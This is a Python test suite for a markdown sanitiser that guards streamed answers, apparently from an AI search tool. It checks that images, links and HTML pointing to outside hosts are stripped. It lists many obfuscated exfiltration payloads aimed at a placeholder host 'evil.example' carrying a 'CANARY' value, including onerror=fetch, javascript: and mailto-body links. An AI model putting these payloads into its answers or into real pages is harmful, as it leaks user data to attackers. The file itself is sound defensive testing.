"""An answer gives the program that shows it nothing to load, run or open that was not given, however it is spelled."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nexi.answers.citations import clean_address, clean_title, format_citations_section
from nexi.answers.safe_markdown import MarkdownGuard, _is_inert, find_exits
from nexi.answers.streaming import AnswerStream, _fit_stretch, make_safe

GIVEN, READ, EVIL = "https://given.example/b", "https://read.example/a", "evil.example/p.png?d=CANARY"
PLACES = {GIVEN: 0, READ: 4, "info@given.example": 0}
LIVE = re.compile(r"<(?:img|script|iframe|style|video|a)\b[^>]*", re.IGNORECASE)

SPELLINGS = [
    f"![x](//{EVIL})",
    f"![x](http&#58;//{EVIL})",
    f"![x](https&colon;//{EVIL})",
    f"![x](https&#x3a;&#x2f;&#x2f;{EVIL})",
    rf"![x](https:\/\/{EVIL})",
    f"![x](https:/{EVIL})",
    f"![x](https:{EVIL})",
    f"![x](/\\{EVIL})",
    f"![x](<//{EVIL}>)",
    f"![x](<https://{EVIL}> 'title')",
    f"![x](\nhttps://{EVIL}\n)",
    f"![a [b] c](https://{EVIL})",
    f"![x][r]\n\n[r]: //{EVIL}",
    f"![r]\n\n[r]: <https&#58;//{EVIL}> 'x'",
    f"[r]: //{EVIL}\n\nText ![r][] there.",
    f"> [r]: //{EVIL}\n\n![r]",
    f"- [r]:\n  //{EVIL}\n\n![r]",
    f"![x]({GIVEN})",
    f'<img src="//{EVIL}">',
    f"<img src=x\nonerror=fetch('//{EVIL}')>",
    f'<a href="//{EVIL}">x</a>',
    f"<style>@import '//{EVIL}'</style>",
    f"<!-- x --><img src=//{EVIL}>",
    f"<?x?><iframe src=//{EVIL}>",
    "<![CDATA[x]]><b>",
    f"<https://{EVIL}>",
    f"<ftp://{EVIL}>",
    "<mail@evil.example>",
    "<mailto:mail@evil.example?body=CANARY>",
    f"[x](//{EVIL})",
    f"[x](javascript:fetch('//{EVIL}'))",
    f"[x](data:text/html,{EVIL})",
    f"[x](ftp://{EVIL})",
    "[x](mailto:a@evil.example?body=CANARY)",
    f"[x](www.{EVIL})",
    f"[1](//{EVIL})",
    f"https://{EVIL}",
    f"http&#58;//{EVIL}",
    rf"https:\/\/{EVIL}",
    f"HTTPS://{EVIL}",
    f"ftp://{EVIL}",
    f"www.{EVIL}",
    "CANARY@evil.example",
    "mailto:CANARY@evil.example",
    f"\\` ![x](http://{EVIL}) \\`",
    f"`` ![x](http://{EVIL}) `",
    f"```a`b\n![x](http://{EVIL})",
    f"~~~\n```\n~~~\n![x](http://{EVIL})",
    f"```\n~~~\n```\n![x](http://{EVIL})",
    f"````\n```\n````\n![x](http://{EVIL})",
    f"    ```\n\n![x](http://{EVIL})\n\n    ```",
    f"- ```\n\n![x](http://{EVIL})",
    f"> ```\n\n![x](http://{EVIL})\n\n```",
    f"` | ![x](http://{EVIL}) `\n---|---\n",
    f"a | `\n---|---\n![x](http://{EVIL}) | `\n",
    f"One `two. Three ![x](http://{EVIL}) four. Five` six.",
    f"A <b\n\nc> ![x](http://{EVIL})",
    f"Line\n===\n![x](//{EVIL})",
    f"**![x](//{EVIL})**",
    f"| a |\n|---|\n| ![x](//{EVIL}) |",
    f"# ![x](//{EVIL})",
    f"[![x](//{EVIL})]({GIVEN})",
    f"![x](ht\ttp://{EVIL})",
    f"!\\[x](//{EVIL})",
    f"\\![x](//{EVIL})",
]


def answer(text: str, size: int) -> AnswerStream:
    stream = AnswerStream({1, 4}, place=PLACES.get)
    for start in range(0, len(text), size):
        stream.feed(text[start : start + size])
    return stream


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize("text", SPELLINGS)
def test_no_spelling_of_an_image_a_tag_or_a_link_gets_through(text: str, size: int) -> None:
    for around in (text, f"Lemurs sleep [1]. {text} They wake [1].", f"- Lemurs\n- {text}\n\nEnd."):
        shown = answer(around, size).finish()
        assert live_targets(shown) == [], shown
        assert find_exits(shown, PLACES.get) == set(), shown


def live_targets(markdown: str) -> list[str]:
    """What another configuration of a reader makes live, apart from links to what was given."""
    html = MarkdownIt("js-default", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
    return [tag for tag in LIVE.findall(html) if tag not in (f'<a href="{GIVEN}"', f'<a href="{READ}"')]


@pytest.mark.parametrize(
    "text",
    [
        f"The [page]({GIVEN}) says so [1]. Write to info@given.example.",
        f"See <{GIVEN}> or {GIVEN}.",
        "Use `a[0](x)` or `<img src=x>` in code [1].",
        f"```html\n<img src='https://{EVIL}'>\n```\n\nDone [1].",
        f"~~~\ncurl https://{EVIL}\n~~~\n",
        "Vectors hold numbers: 1 < 2 and 3 > 2 [1].",
        "| a | b |\n|---|---|\n| 1 | 2 [1] |",
        "See [above](#part) [1].",
        "R&D at AT&T \\* grew [1].",
    ],
)
def test_what_was_given_and_code_stay_as_they_are(text: str) -> None:
    assert [answer(text, size).finish() for size in (1, 9, 1000)] == [text.strip()] * 3


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A Vec<T> holds values [1].", "A Vec\\<T> holds values [1]."),
        ("Then a[0](x) is called [1].", "Then a[0\\](x) is called [1]."),
        (f"Look ![x](//{EVIL}) here [1].", "Look x here [1]."),
    ],
)
def test_markup_becomes_text_where_that_is_enough(text: str, shown: str) -> None:
    assert answer(text, 5).finish() == shown


def test_what_was_taken_out_is_named() -> None:
    stream = answer(f"One http&#58;//{EVIL} here. Two [1].", 5)
    assert (stream.finish(), stream.removed) == ("One here. Two [1].", {f"http://{EVIL}"})


LONG_CODE = ("<b> of long code " * 6 + "\n") * 25  # few lines, since each is looked at with all before it
LONG_LIST = "".join(f"{number}. One item of a long list.\n" for number in range(90))
PARTS = [
    "`", "``", "```", "~~~", "\n", "\n\n", " ", "> ", "- ", "    ", "|", "\n---|---\n", "---", "![x]", "[x]", "[r]: ", "[r]",
    "(//evil.example/c)", "(https://evil.example/c)", "<img src=//evil.example/c>", "<b", ">", "https://evil.example/c",
    "&#58;",
    "\\", "word. ", "[1]", "!", "[", "]", "(", ")", "<", "www.evil.example", "a@evil.example", "<!--", "-->", "# ", "1. ", "\t",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=14).map("".join), st.sampled_from([1, 5, 1000]))
def test_no_mixture_of_markup_gets_through(text: str, size: int) -> None:
    shown = answer(text, size).finish()
    assert (find_exits(shown, PLACES.get), live_targets(shown)) == (set(), [])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=14).map("".join))
def test_a_whole_text_is_made_safe_in_the_same_way(text: str) -> None:
    assert find_exits(make_safe(text, PLACES.get), PLACES.get) == set()


@pytest.mark.parametrize("fence", ["```python", "~~~~ a|b", "   ````"])
def test_code_of_a_thousand_lines_stays_as_it_is(fence: str) -> None:
    lines = "".join(f"    if a[{number}](b) < <T> and c->d: call(e[{number}])\n" for number in range(1_000))
    text = f"Here it is [1].\n\n{fence}\n{lines}{fence.strip(' abpython|')}\n\nUse it with care [1]."
    assert answer(text, 50).finish() == text


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from([f"```\n{LONG_CODE}", f"~~~~\n{LONG_CODE}", f"``` a|b\n{LONG_CODE}", LONG_LIST, f"{LONG_LIST}90. - "]),
    st.lists(st.sampled_from([*PARTS, "\n```\n", "\n~~~~\n"]), max_size=14).map("".join),
)
def test_no_mixture_of_markup_gets_through_behind_long_code_or_a_long_list(before: str, text: str) -> None:
    shown = answer(f"{before}{text}", 40).finish()
    assert (find_exits(shown, PLACES.get), live_targets(shown)) == (set(), [])


def test_a_long_answer_is_parsed_from_its_last_block_only() -> None:
    guard = MarkdownGuard(PLACES.get)
    for number in range(400):
        guard.add(f"Paragraph {number} of [this]({GIVEN}).\n\n")
    assert (guard.find_exits(f"![x](//{EVIL})"), len(guard._end) < 8_000) == ({f"//{EVIL}"}, True)


def test_a_long_list_is_parsed_from_its_last_item_only() -> None:
    guard = MarkdownGuard(PLACES.get, max_parsed_chars=300_000)
    for number in range(200):
        item = f"{number}. An item of a long list, with [a page]({GIVEN}).\n"
        assert guard.find_exits(item) == set()
        guard.add(item)
    assert guard.find_exits(f"![x](//{EVIL})") == {f"//{EVIL}"}


def test_an_address_is_found_where_it_is_cut_into_pieces() -> None:
    for text in (f"http://{EVIL}", f"www.{EVIL}", f"[x] \n [x]: //{EVIL}", f"[x]( //{EVIL})", "MAILTO:CANARY@evil.example"):
        for cut in range(1, len(text)):
            guard = MarkdownGuard(PLACES.get)
            guard.add(f"Lemurs sleep [1]. {text[:cut]}")
            assert guard.find_exits(f"{text[cut:]}") == find_exits(f"Lemurs sleep [1]. {text}", PLACES.get)


def test_an_answer_that_is_all_markup_ends_as_plain_words() -> None:
    guard, shown = MarkdownGuard(PLACES.get, max_parsed_chars=20_000), ""
    for number in range(60):
        item = f"- item {number} [x](https://evil.example/{number}) `a` (b) <i>\n"
        safe, exits = _fit_stretch(guard, item, lambda text: text)
        guard.add(safe)
        shown += safe
    assert (find_exits(shown, PLACES.get), shown.count("item"), exits) == (set(), 60, {"too much markup"})


def test_titles_and_addresses_in_a_list_of_sources_are_no_markup() -> None:
    title, url = f"![x](//{EVIL}) <img src=//{EVIL}>", "https://a.example/?![x](//b.example/p.png)"
    listed = format_citations_section({1: url, 2: GIVEN}, {url: title, GIVEN: "[PDF] Maps"})
    assert _is_inert(listed)
    assert (clean_title("[PDF] Maps of 1 < 2"), clean_address(f"{GIVEN}?a[]=1")) == ("[PDF] Maps of 1 < 2", f"{GIVEN}?a[]=1")
